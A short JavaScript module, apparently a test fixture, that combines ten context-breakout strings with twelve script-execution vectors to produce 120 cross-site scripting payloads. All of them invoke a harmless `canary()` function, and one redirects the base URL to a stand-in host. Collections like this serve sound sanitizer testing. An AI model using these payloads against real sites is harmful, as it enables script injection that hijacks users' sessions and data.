// XSS payloads: each way to break out of a context, combined with each way to run a script. All of them call `canary`.

const WAYS_OUT = ['', '"', "'", '">', "'>", '</title>', '</script>', '</textarea></style>', '-->', '\\"']

const SCRIPTS = [
  '<script>canary()</script>',
  '<img src=x onerror=canary()>',
  '<svg/onload=canary()>',
  '<svg><script>canary()</script></svg>',
  '<iframe srcdoc="<script>parent.canary()</script>">',
  '<details open ontoggle=canary()>',
  '<math><mtext><table><mglyph><style><img src=x onerror=canary()>',
  '<a href="javascript:canary()">x</a><base href="//evil.example/">',
  ' autofocus onfocus=canary() x="',
  'javascript:canary()//{{constructor.constructor("canary()")()}}',
  '<noscript><p title="</noscript><img src=x onerror=canary()>">',
  '&lt;img src=x onerror=canary()&gt;&#60;script&#62;canary()&#60;/script&#62;',
]

/** 120 XSS payloads. */
export const PAYLOADS = WAYS_OUT.flatMap((out) => SCRIPTS.map((script) => out + script))
